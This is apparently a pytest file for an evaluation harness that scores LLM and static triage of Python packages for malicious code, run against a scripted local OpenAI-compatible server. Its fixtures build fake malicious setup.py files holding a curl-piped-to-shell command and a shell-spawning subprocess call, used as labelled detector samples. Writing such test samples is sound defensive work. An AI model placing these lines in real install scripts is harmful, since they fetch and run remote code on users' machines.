"""An LLM system end to end over real HTTP: a scripted OpenAI-compatible server on 127.0.0.1.

Checks the plumbing only (system built from ``--model local --api-base``, forked workers
calling the server, usage in the records, tokens and cost on the leaderboard, a failing
model call recorded per package); the answers are scripted, so no accuracy is claimed.
"""

from __future__ import annotations

import io
import tarfile
from pathlib import Path
from typing import Any

import pytest

from tests.llm_server import Reply, ScriptedServer, answer
from triage.evaluation import systems
from triage.evaluation.bench import run_bench
from triage.evaluation.datasets import load_dataset, resolve_dataset
from triage.evaluation.evaluate import score_run
from triage.evaluation.rundir import RunDir
from triage.evaluation.systems import make_system, probe_server


def dataset(tmp_path: Path) -> Path:
    ds = tmp_path / "ds"
    ds.mkdir()
    for i in range(2):
        buf = io.BytesIO()
        with tarfile.open(fileobj=buf, mode="w:gz") as tf:
            data = f"import os\nos.system('curl x{i} | sh')\n".encode()
            info = tarfile.TarInfo(f"p{i}-1/setup.py")
            info.size = len(data)
            tf.addfile(info, io.BytesIO(data))
        (ds / f"p{i}-1.tar.gz").write_bytes(buf.getvalue())
    return ds


@pytest.fixture
def no_kb(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    """Retrieval falls back to definitions (no Chroma build in a test); caches in tmp."""
    import triage.retrieval as retrieval

    class Unavailable:
        def __init__(self, *args: Any, **kwargs: Any) -> None:
            raise RuntimeError("no knowledge base in this test")

    monkeypatch.setattr(retrieval, "KnowledgeBase", Unavailable)
    monkeypatch.setattr(systems, "build_knowledge_base", lambda: None)
    monkeypatch.setenv("TRIAGE_HOME", str(tmp_path / "home"))


def reply(body: dict[str, Any]) -> Reply:
    text = str(body.get("messages"))
    if "x1" in text:  # a 400 is not retried
        return Reply(status=400, error="context length exceeded")
    return Reply(content=answer(), usage=(1200, 80))


def test_llm_system_over_http_records_usage_and_failures(tmp_path: Path, no_kb: None):
    run = tmp_path / "run"
    with ScriptedServer(reply) as server:
        system = make_system("local", server.url)
        assert (system.name, system.kind, system.skip_reason) == ("llm:local", "llm", "")
        run_bench(RunDir(run), load_dataset(resolve_dataset(str(dataset(tmp_path)))),
                  [system], jobs=2, echo=lambda text: None)
    records = RunDir(run).load_records("llm:local")
    assert records["p0-1.tar.gz"].status == "ok"
    usage = records["p0-1.tar.gz"].report["llm"]  # type: ignore[index]
    assert (usage["prompt_tokens"], usage["completion_tokens"]) == (
        1200 * usage["calls"], 80 * usage["calls"])
    # the failing model call is kept with its package: a report whose verdict says why
    failed = records["p1-1.tar.gz"]
    assert failed.status == "ok" and failed.report is not None
    assert failed.report["llm"]["prompt_tokens"] == 0
    assert failed.report["verdict"]["label"] == "needs-review"
    assert failed.report["verdict"]["reasons"][0].startswith("LLM review incomplete: ")
    assert "context length exceeded" in failed.report["verdict"]["reasons"][0]
    (row,) = score_run(run, resamples=0).rows
    assert row.tokens_per_package == 1280 * usage["calls"] / 2  # mean over both packages
    assert (row.done, row.errors) == (2, 0)


def test_probe_reports_a_closed_port():
    reason = probe_server("http://127.0.0.1:9/v1", timeout_s=1.0)
    assert reason.startswith("no OpenAI-compatible server at http://127.0.0.1:9/v1 (")


def test_llm_sample_takes_one_labelled_archive_per_cluster_then_benign() -> None:
    from triage.evaluation.bench import llm_sample
    from triage.evaluation.stmt_metrics import PackageTruth, TruthStatement

    lab = (TruthStatement("f.py", 1, 1, ("code_execution_runtime",)),)
    truths = [PackageTruth("b/2.tgz", "c2", True, lab), PackageTruth("a/2.tgz", "c1", True, lab),
              PackageTruth("a/1.tgz", "c1", True, lab), PackageTruth("n/1.tgz", "c0", True),
              PackageTruth("z.whl", "benign:z", False), PackageTruth("y.whl", "benign:y", False)]
    assert llm_sample(truths, 5, 1) == ("a/1.tgz", "b/2.tgz", "y.whl")
    assert llm_sample(truths, 1, 0) == ("a/1.tgz",)
    assert llm_sample(truths, 0, 5) == ("y.whl", "z.whl")


def _labelled_corpus(tmp_path: Path) -> Path:
    """A corpus directory: three malicious sdists (two labelled) and their labels."""
    import json
    import zipfile

    corpus = tmp_path / "corpus"
    corpus.mkdir()
    bodies = {"p0": "import os\nos.system('curl x0 | sh')\n",
              "p1": "import subprocess\nsubprocess.call(['sh', '-c', 'id'])\n",
              "p2": "x = 1\n"}
    with zipfile.ZipFile(corpus / "malicious-t.zip", "w") as zf:
        for name, body in bodies.items():
            buf = io.BytesIO()
            with tarfile.open(fileobj=buf, mode="w:gz") as tf:
                data = body.encode()
                info = tarfile.TarInfo(f"{name}-1/setup.py")
                info.size = len(data)
                tf.addfile(info, io.BytesIO(data))
            zf.writestr(f"{name}/1/{name}-1.tar.gz", buf.getvalue())
    labels = [{"package": n, "archive": f"{n}/1/{n}-1.tar.gz", "file": f"{n}-1/setup.py",
               "lines": [2], "indicator": "code_execution_runtime", "note": ""}
              for n in ("p0", "p1")]
    (corpus / "labels-t.jsonl").write_text("".join(json.dumps(x) + "\n" for x in labels))
    return corpus


def test_llm_sample_runs_the_llm_on_the_sample_and_scores_it_beside_static(
        tmp_path: Path, no_kb: None) -> None:
    run = tmp_path / "run"
    data = load_dataset(resolve_dataset(str(_labelled_corpus(tmp_path))))
    with ScriptedServer(lambda body: Reply(content=answer(), usage=(900, 50))) as server:
        llm = make_system("local", server.url, llm_db=str(run / "llm.sqlite3"))
        run_bench(RunDir(run), data, [make_system("static"), llm], jobs=2,
                  echo=lambda text: None, sample=(2, 0))
        calls = len(server.requests)
    # the two labelled archives (p2 has no labels)
    assert set(RunDir(run).load_records("llm:local")) == {"p0/1/p0-1.tar.gz",
                                                          "p1/1/p1-1.tar.gz"}
    assert len(RunDir(run).load_records("static")) == 3
    assert calls >= 1 and (run / "llm.sqlite3").is_file()  # the run's own transcript
    board = score_run(run, resamples=0)
    assert [(r.system, r.done, r.total) for r in board.rows] == [("static", 3, 3)]
    assert [(r.system, r.sample, r.done, r.total, r.rejected) for r in board.sample_rows] == [
        ("static (sample of llm:local)", 2, 2, 2, None), ("llm:local", 2, 2, 2, 0)]
    static_s, llm_s = board.sample_rows
    assert static_s.scores is not None and llm_s.scores is not None
    assert llm_s.scores.code.metrics["recall"].raw.value == 1.0
    assert llm_s.tokens_per_package == 950 * calls / 2
    from triage.evaluation.leaderboard import render_csv, render_markdown

    page = render_markdown(board)
    assert "## LLM configurations on a sample" in page
    assert "| llm:local | 2 | " in page
    assert render_csv(board).splitlines()[-1].split(",")[-2:] == ["2", "0"]
